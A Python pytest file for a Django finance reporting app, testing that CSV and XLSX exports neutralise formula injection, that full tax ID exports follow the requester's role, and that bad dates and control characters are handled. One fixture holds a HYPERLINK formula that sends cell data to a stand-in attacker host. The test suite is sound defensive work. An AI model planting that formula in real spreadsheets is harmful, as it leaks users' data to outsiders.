"""Exports are safe to open: no formula runs, no full tax ID outlives its requester's role."""

import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from core.permissions import AUDITOR_GROUP, FINANCE_GROUP
from reports.exports import Table, csv_write, xlsx_write
from reports.models import ReportExport

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _table():
    return Table(
        title="Test", headers=["holder", "reference", "amount"],
        rows=[[EVIL, "@SUM(A1)", Decimal("-12.50")], ["Plain Name", "-", Decimal("3.00")]],
        money_columns=frozenset({2}),
    )


def test_text_that_looks_like_a_formula_is_written_inert_and_numbers_stay_numbers():
    out = io.BytesIO()
    csv_write(_table(), out)
    text = out.getvalue().decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text and "'@SUM(A1)" in text
    assert "-12.50" in text  # a negative amount is a number, not quoted
    out = io.BytesIO()
    xlsx_write(_table(), out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    assert cells["'" + EVIL] == "s" and cells["'@SUM(A1)"] == "s"
    assert not any(t == "f" for t in cells.values())


def test_a_full_tax_id_file_is_no_longer_served_once_its_requester_leaves_finance(
    client, finance_user
):
    export = ReportExport.objects.create(
        kind="interest_paid", file_format="csv", params={"year": 2007},
        requested_by=finance_user, full_tax_ids=True,
    )
    client.force_login(finance_user)
    assert client.get(reverse("reports:export", args=[export.pk])).status_code == 200
    finance_user.groups.remove(Group.objects.get(name=FINANCE_GROUP))
    finance_user.groups.add(Group.objects.get_or_create(name=AUDITOR_GROUP)[0])
    client.force_login(finance_user)
    assert client.get(reverse("reports:export", args=[export.pk])).status_code == 404


@pytest.mark.parametrize(
    "url",
    ["/reports/?as_of=9999-12-31", "/reports/notes/?as_of=9999-12-31",
     "/reports/?date_from=9999-12-01&date_to=9999-12-31",
     "/offerings/what-if/?day=9999-12-31&price=1"],
)
def test_far_future_days_are_refused_on_the_form_not_a_500(client, finance_user, url):
    client.force_login(finance_user)
    response = client.get(url)
    assert response.status_code in (200, 400)
    assert "between 1900 and 9998" in response.content.decode() or "Give a day before" in (
        response.content.decode()
    )


def test_a_control_character_in_an_uploaded_csv_is_refused_plainly(client, finance_user):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(finance_user)
    body = b"series,holder,principal,issue_date\nS,Hol\x00der,1000.00,2026-01-02\n"
    response = client.post(
        reverse("note-import"),
        {"file": SimpleUploadedFile("notes.csv", body, content_type="text/csv")},
    )
    assert response.status_code == 200
    assert "Line 2 holds a control character (code 0)" in response.content.decode()


def test_a_holder_name_with_control_characters_still_exports_as_xlsx(finance_api):
    """Found by the API fuzzing: XLSX cannot hold control characters, and the export was a 500."""
    from datetime import date

    from tests.factories import HolderFactory, NoteFactory

    holder = HolderFactory(name="Keller\x1d Trust\x07")
    note = NoteFactory(holder=holder, issue_date=date(2006, 7, 20))
    response = finance_api.get(
        "/api/v1/reports/notes-outstanding/?as_of=2007-01-31&format=xlsx"
        f"&series={note.series_id}"
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Keller\ufffd Trust\ufffd" in values
    out = io.BytesIO()
    csv_write(Table(title="T", headers=["holder"], rows=[[holder.name]],
                    money_columns=frozenset()), out)
    assert "Keller\x1d Trust\x07" in out.getvalue().decode("utf-8-sig")  # CSV keeps it as is
